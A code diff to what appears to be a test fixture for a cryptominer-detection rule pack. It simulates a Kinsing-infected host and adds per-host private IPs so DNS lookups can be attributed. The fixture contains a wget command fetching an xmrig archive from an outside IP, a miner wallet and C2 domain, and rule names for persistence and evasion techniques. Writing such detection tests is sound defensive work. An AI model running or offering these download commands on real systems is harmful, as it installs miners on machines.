@@ -26,13 +26,18 @@ PACK = {
     "defense_evasion.exe_in_tmp_dir", "defense_evasion.hidden_process", "defense_evasion.ld_preload_hijack",
     "defense_evasion.immutable_attribute", "defense_evasion.base64_hidden_miner",
     "command_and_control.pool_connection", "command_and_control.ioc_in_command",
-    "command_and_control.ioc_domain_lookup", "command_and_control.known_bad_file_hash",
+    "command_and_control.net_pool_dns", "command_and_control.known_bad_file_hash",
     "persistence.autostart_from_tmp", "persistence.watchdog_restart", "persistence.attacker_authorized_key",
     "persistence.cron_pipe_to_shell", "lateral_movement.stored_private_key",
     "lateral_movement.orchestration_config",
 }
 T0 = dt.datetime(2024, 3, 1, 9, 0, 0)
 WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
+
+
+def _ip(host: str) -> str:
+    """A distinct private address per host name."""
+    return f"10.0.0.{sum(map(ord, host)) % 250 + 1}"
 
 
 def infected(host: str = "web1") -> dict[str, list[dict[str, Any]]]:
@@ -88,8 +93,11 @@ def infected(host: str = "web1") -> dict[str, list[dict[str, Any]]]:
              "command": "wget -q http://198.51.100.7/xmrig.tar.gz && tar xzf xmrig.tar.gz"},
         ],
         "dns": [
-            {"host": host, "ts": T0, "client": "10.0.0.5", "qname": "t.amynx.com", "qtype": "A"},
+            {"host": host, "ts": T0, "client": _ip(host), "qname": "t.amynx.com", "qtype": "A"},
         ],
+        # The host's own address, as a live collection records it: lookups are attributed
+        # to hosts by the asking address.
+        "hosts": [{"host": host, "ips": [_ip(host)]}],
         "iocs": [
             {"kind": "sha256", "value": "c" * 64, "family": "Kinsing", "description": "libsystem.so",
              "source": "user:report.json:indicator--1"},
